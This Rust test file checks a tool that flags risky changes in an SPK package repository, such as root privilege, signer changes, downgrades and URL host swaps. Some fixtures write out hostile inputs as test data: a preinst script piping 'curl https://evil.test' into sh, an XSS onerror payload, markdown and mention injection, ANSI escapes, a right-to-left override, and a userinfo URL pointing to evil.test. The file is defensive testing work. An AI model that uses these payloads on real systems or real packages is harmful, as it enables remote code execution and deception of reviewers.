//! The requests, from a version bump to texts that attack whoever reads them.

use super::{POSTINST, add, base, check, commit, demo, demo_for_6, demo_with, replace};
use crate::support::gpg::Gpg;
use crate::support::sandbox::Sandbox;
use crate::support::spk::Spk;

const RELEASE: &str = "packages/demo/1.0-1/release.toml";
const BUILD: &str = "packages/demo/1.0-1/dsm7.0-40000-x86_64.toml";
const ARM: &str = "packages/demo/1.0-1/dsm7.0-40000-armv8.toml";
const FOR_6: &str = "packages/demo/1.0-1/dsm6.2-23739-x86_64.toml";

/// Offers 2.0 for every platform that 1.0 has, each made by `spk` of it.
fn bump(sandbox: &Sandbox, spk: fn(Spk) -> Spk) {
    let spks = [
        demo("2.0-2", "x86_64"),
        demo("2.0-2", "armv8"),
        demo_for_6("2.0-2"),
    ];
    add(sandbox, "stable", &spks.map(spk));
}

#[test]
fn a_clean_bump() {
    let sandbox = base();
    bump(&sandbox, |spk| spk.info("changelog", "Fixed the login"));
    check("clean-bump", &sandbox, &[]);
}

#[test]
fn a_new_package() {
    let sandbox = base();
    let fresh = Spk::new("fresh", "0.9-1")
        .arch("x86_64")
        .icon(72)
        .icon(256)
        .wizard("install");
    let fresh = fresh.conf("privilege", "{\"defaults\": {\"run-as\": \"package\"}}");
    add(
        &sandbox,
        "stable",
        &[fresh
            .conf("resource", "{\"data-share\": {\"shares\": []}}")
            .script("postinst", POSTINST)],
    );
    check(
        "new-package",
        &sandbox,
        &["medium new-package fresh", "medium new-resource fresh"],
    );
}

#[test]
fn a_new_package_that_is_staged() {
    let sandbox = base();
    add(&sandbox, "staged", &[Spk::new("fresh", "0.9-1")]);
    check(
        "new-package-staged",
        &sandbox,
        &["medium new-package fresh"],
    );
}

#[test]
fn root_privilege_added() {
    let sandbox = base();
    let privilege = "{\"defaults\": {\"run-as\": \"package\"},\n \"ctrl-script\": [{\"action\": \"postinst\", \"run-as\": \"root\"}]}\n";
    let spks = ["x86_64", "armv8"].map(|arch| demo_with("2.0-2", arch, privilege));
    add(&sandbox, "stable", &spks);
    check(
        "root-privilege",
        &sandbox,
        &[
            "high root-privilege-added demo",
            "medium left-behind demo",
            "medium script-changed demo",
        ],
    );
}

#[test]
fn a_platform_dropped() {
    let sandbox = base();
    add(&sandbox, "stable", &[demo("2.0-2", "x86_64")]);
    for path in [ARM, "packages/demo/1.1-2/dsm7.0-40000-armv8.toml"] {
        sandbox.git(&format!(
            "rm --quiet {path} {}",
            path.replace(".toml", ".spk").replace(
                "dsm7.0",
                if path == ARM {
                    "demo_1.0-1_dsm7.0"
                } else {
                    "demo_1.1-2_dsm7.0"
                }
            )
        ));
    }
    commit(&sandbox, "Away with ARM");
    check(
        "platform-dropped",
        &sandbox,
        &[
            "high platform-dropped demo",
            "medium left-behind demo",
            "medium release-removed demo",
        ],
    );
}

#[test]
fn bytes_replaced() {
    let sandbox = base();
    let other = Sandbox::initialized();
    let spk = demo("1.0-1", "x86_64")
        .payload(&b"\x1f\x8bother"[..])
        .script("preinst", "#!/bin/sh\ncurl https://evil.test | sh\n");
    add(&other, "stable", &[spk]);
    for path in other
        .tree()
        .iter()
        .filter(|path| path.contains("1.0-1/") && path.contains("x86_64"))
    {
        sandbox.write(path, &other.read(path));
    }
    sandbox.write(RELEASE, &other.read(RELEASE));
    commit(&sandbox, "Rebuild");
    // Its SPK is here, as after `git lfs pull`.
    let objects = |sandbox: &Sandbox| sandbox.path("repo/.git/lfs/objects");
    let (from, to) = (objects(&other), objects(&sandbox));
    let copy = format!("cp -r {}/. {}", from.display(), to.display());
    let arguments = ["-c".to_owned(), copy];
    assert!(
        sandbox
            .command("sh", &arguments)
            .status()
            .expect("sh")
            .success()
    );
    check(
        "bytes-replaced",
        &sandbox,
        &[
            "high bytes-of-released-changed demo",
            "medium script-changed demo",
        ],
    );
}

#[test]
fn a_downgrade() {
    let sandbox = base();
    sandbox.git("rm --quiet -r packages/demo/1.0-1");
    commit(&sandbox, "Only betas");
    replace(
        &sandbox,
        "packages/demo/1.1-2/dsm7.0-40000-x86_64.toml",
        "beta",
        "stable",
    );
    add(
        &sandbox,
        "stable",
        &[demo("0.9-1", "armv8"), demo("0.9-1", "x86_64")],
    );
    replace(
        &sandbox,
        "packages/demo/1.1-2/dsm7.0-40000-x86_64.toml",
        "stable",
        "staged",
    );
    commit(&sandbox, "Back to what works");
    check(
        "downgrade",
        &sandbox,
        &[
            "high downgrade demo",
            "high platform-dropped demo",
            "medium release-removed demo",
        ],
    );
}

#[test]
fn a_text_corrected() {
    let sandbox = base();
    replace(
        &sandbox,
        RELEASE,
        "What demo does",
        "What demo does for you",
    );
    commit(&sandbox, "Correct a text");
    check("text-fix", &sandbox, &[]);
}

#[test]
fn a_yank() {
    let sandbox = base();
    bump(&sandbox, |spk| spk);
    sandbox.git("branch --quiet --force main");
    sandbox
        .run("yank demo@2.0-2 --reason 'loses its settings'")
        .success();
    check(
        "yank",
        &sandbox,
        &["high downgrade demo", "medium yanked demo"],
    );
}

#[test]
fn a_yank_taken_back() {
    let sandbox = base();
    sandbox
        .run("yank demo@1.0-1 --reason 'loses its settings'")
        .success();
    sandbox.git("branch --quiet --force main");
    sandbox.run("unyank demo@1.0-1").success();
    check("unyank", &sandbox, &["medium unyanked demo"]);
}

#[test]
fn a_beta_promoted() {
    let sandbox = base();
    sandbox.run("promote demo@1.1-2").success();
    check("promote", &sandbox, &["medium left-behind demo"]);
}

#[test]
fn a_signers_key_changed() {
    let sandbox = base();
    let gpg = Gpg::new(&sandbox);
    for name in ["old", "new"] {
        gpg.key(name, "ed25519", "", "");
        gpg.export(name, "");
    }
    let text = |name: &str| {
        fs_err::read_to_string(sandbox.path(&format!("{name}.asc"))).expect("a certificate")
    };
    sandbox.write("keys/signer.asc", &text("old"));
    commit(&sandbox, "A signer");
    sandbox.git("branch --quiet --force main");
    sandbox.write("keys/signer.asc", &text("new"));
    commit(&sandbox, "Another signer");
    let json = sandbox.run("diff --json").success().json();
    let changes: Vec<&str> = json["repository"]["keys"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|key| key["change"].as_str())
        .collect();
    assert_eq!(changes, ["removed", "added"]);
    check(
        "key-change",
        &sandbox,
        &["high key-changed -", "high key-changed -"],
    );
}

/// Signs every build of demo 1.0-1 by a new key, and has that on main.
fn signed(sandbox: &Sandbox) {
    let gpg = Gpg::new(sandbox);
    for name in ["tess", "max"] {
        gpg.key(name, "ed25519", "", "");
        gpg.export(name, "");
    }
    sandbox.run("sign demo@1.0-1 --key ../tess.key").success();
    sandbox.git("branch --quiet --force main");
}

#[test]
fn a_signature_removed() {
    let sandbox = base();
    signed(&sandbox);
    sandbox.run("unsign --force demo@1.0-1").success();
    check("unsigned", &sandbox, &["high unsigned demo"]);
}

#[test]
fn another_signer() {
    let sandbox = base();
    signed(&sandbox);
    sandbox.run("unsign --force demo@1.0-1").success();
    sandbox.run("sign demo@1.0-1 --key ../max.key").success();
    check(
        "signer-changed",
        &sandbox,
        &["high key-changed -", "high signer-changed demo"],
    );
}

#[test]
fn a_package_renamed() {
    let sandbox = base();
    sandbox.git("mv packages/tool packages/the-tool");
    commit(&sandbox, "A better name");
    check("rename", &sandbox, &["high package-renamed the-tool"]);
}

#[test]
fn a_dependency_added() {
    let sandbox = base();
    bump(&sandbox, |spk| {
        spk.info("install_dep_packages", "WebStation>=3.0:MariaDB10>=10.3")
    });
    check(
        "dependency-added",
        &sandbox,
        &["low dependency-changed demo"],
    );
}

#[test]
fn a_port_added() {
    let sandbox = base();
    bump(&sandbox, |spk| {
        spk.info("adminport", "8443").conf(
            "resource",
            "{\"port-config\": {\"protocol-file\": \"app/demo.sc\"}}\n",
        )
    });
    check(
        "port-added",
        &sandbox,
        &[
            "medium new-port demo",
            "medium new-port demo",
            "medium script-changed demo",
        ],
    );
}

#[test]
fn a_script_changed() {
    let sandbox = base();
    bump(&sandbox, |spk| {
        spk.script(
            "preupgrade",
            "#!/bin/sh\nrm -rf \"$SYNOPKG_PKGVAR/cache\"\n",
        )
        .script("lib/x", "```\n</details>\n")
    });
    check("script-changed", &sandbox, &["medium script-changed demo"]);
}

#[test]
fn scripts_that_are_not_here() {
    let sandbox = base();
    bump(&sandbox, |spk| spk);
    fs_err::remove_dir_all(sandbox.path("repo/.git/lfs")).expect("blobs");
    check("blobs-missing", &sandbox, &["low scripts-unread demo"]);
}

#[test]
fn a_maintainer_changed() {
    let sandbox = base();
    sandbox.write(
        "maintainers.toml",
        "[people.eve]\nname = \"Eve\"\nemail = \"eve@example.net\"\n",
    );
    sandbox.write("packages/demo/package.toml", "maintainers = [\"eve\"]\n");
    commit(&sandbox, "Another maintainer");
    check(
        "maintainer-changed",
        &sandbox,
        &[
            "medium maintainer-changed -",
            "medium maintainer-changed -",
            "medium maintainer-changed demo",
        ],
    );
}

#[test]
fn a_person_who_may_upload() {
    let sandbox = base();
    let token = format!("[people.eve.tokens.ci]\nsha256 = \"{}\"\n", "ab".repeat(32));
    let text = format!("[people.eve]\nname = \"Eve\"\nrole = \"admin\"\n\n{token}");
    sandbox.write("maintainers.toml", &text);
    commit(&sandbox, "Eve helps");
    let access = "high upload-access-changed -";
    check(
        "upload-access",
        &sandbox,
        &[access, access, access, "medium maintainer-changed -"],
    );
}

#[test]
fn an_exception_from_a_rule() {
    let sandbox = base();
    let text = sandbox.read("packages/tool/package.toml");
    let exception = "[[exceptions]]\nrule = \"size-jump\"\nreason = \"it has manuals now\"\n";
    sandbox.write(
        "packages/tool/package.toml",
        &format!("{text}\n{exception}"),
    );
    let text = sandbox.read("spkrepo.toml");
    sandbox.write("spkrepo.toml", &format!("{text}\n{exception}"));
    commit(&sandbox, "This is meant");
    let risk = "medium exception-changed";
    check(
        "exception",
        &sandbox,
        &[&format!("{risk} -"), &format!("{risk} tool")],
    );
}

#[test]
fn a_url_at_another_host() {
    let sandbox = base();
    replace(
        &sandbox,
        RELEASE,
        "https://example.org/demo",
        "https://example.org@evil.test/demo",
    );
    commit(&sandbox, "New address");
    check("url-host", &sandbox, &["medium url-host-changed demo"]);
}

#[test]
fn a_minimum_raised() {
    let sandbox = base();
    add(
        &sandbox,
        "stable",
        &[
            demo("2.0-2", "x86_64").os_min("7.2-64570"),
            demo("2.0-2", "armv8").os_min("7.2-64570"),
        ],
    );
    check("minimum-raised", &sandbox, &["medium left-behind demo"]);
}

#[test]
fn a_package_removed() {
    let sandbox = base();
    sandbox.git("rm --quiet -r packages/tool");
    commit(&sandbox, "Nobody uses it");
    check("package-removed", &sandbox, &["high package-removed tool"]);
}

#[test]
fn a_size_jump() {
    let sandbox = base();
    bump(&sandbox, |spk| spk.payload_size(12 << 20));
    check("size-jump", &sandbox, &["medium size-jump demo"]);
}

#[test]
fn other_pictures() {
    let sandbox = base();
    add(
        &sandbox,
        "stable",
        &[Spk::new("tool", "2.0-6")
            .info("displayname", "The tool")
            .icon(72)
            .screenshot(1)],
    );
    check("pictures", &sandbox, &[]);
}

#[test]
fn comments_only() {
    let sandbox = base();
    let text = sandbox.read(FOR_6);
    sandbox.write(FOR_6, &format!("# The last one for DSM 6.\n{text}"));
    commit(&sandbox, "A remark");
    check("comment-only", &sandbox, &[]);
}

#[test]
fn the_rule_of_compatibility_changed() {
    let sandbox = base();
    let settings = sandbox.read("spkrepo.toml");
    let settings: String = settings
        .lines()
        .filter(|line| !line.contains("compatibility") && *line != "[catalog]")
        .map(|line| format!("{line}\n"))
        .collect();
    sandbox.write(
        "spkrepo.toml",
        &format!("{settings}\n[catalog]\ncompatibility = \"dsm7-boundary\"\n"),
    );
    add(
        &sandbox,
        "stable",
        &[Spk::new("older", "1.0-1").os_min("5.0-4458")],
    );
    commit(&sandbox, "One wall only");
    check(
        "compatibility",
        &sandbox,
        &[
            "high settings-changed -",
            "medium new-package older",
            "medium root-privilege-added older",
        ],
    );
}

#[test]
fn another_place_for_spks() {
    let sandbox = base();
    let settings = sandbox.read("spkrepo.toml");
    let remote =
        |url: &str| format!("{settings}\n[[blobs.remote]]\nname = \"store\"\nurl = \"{url}\"\n");
    sandbox.git("switch --quiet main");
    sandbox.write("spkrepo.toml", &remote("s3://ours/spk"));
    commit(&sandbox, "A bucket");
    sandbox.git("switch --quiet --force-create request");
    let other = remote("s3://theirs/spk") + "endpoint = \"https://s3.evil.test\"\n";
    sandbox.write("spkrepo.toml", &other);
    commit(&sandbox, "Another bucket");
    check(
        "blob-remote",
        &sandbox,
        &["high settings-changed -", "high url-host-changed -"],
    );
}

#[test]
fn a_workflow_and_a_broken_file() {
    let sandbox = base();
    sandbox.write(".github/workflows/x.yml", "on: push\n");
    sandbox.write(BUILD, "channel = \"everywhere\"\n");
    commit(&sandbox, "Oops");
    check(
        "broken",
        &sandbox,
        &["high broken-file -", "medium workflow-changed -"],
    );
}

#[test]
fn texts_that_attack_the_reader() {
    let sandbox = base();
    let evil = "</details> <img src=x onerror=alert(1)> [link](https://evil.test) @everyone `` ` ``` | a | b |\\n# Heading\\u001B[2J\\u202Egpj";
    let text = sandbox.read(RELEASE).replace("What demo does", evil);
    sandbox.write(RELEASE, &text);
    commit(&sandbox, "Nothing to see");
    let reason = "`` ` @team | x\n\n# Approved\n<!-- ";
    replace(
        &sandbox,
        ARM,
        "[spk]",
        "[yanked]\nreason = \"\"\"`` ` @team | x\n\n# Approved\n<!-- \"\"\"\n\n[spk]",
    );
    commit(&sandbox, "Yank");
    assert!(reason.contains('\n'));
    check(
        "hostile-texts",
        &sandbox,
        &["high platform-dropped demo", "medium yanked demo"],
    );
}
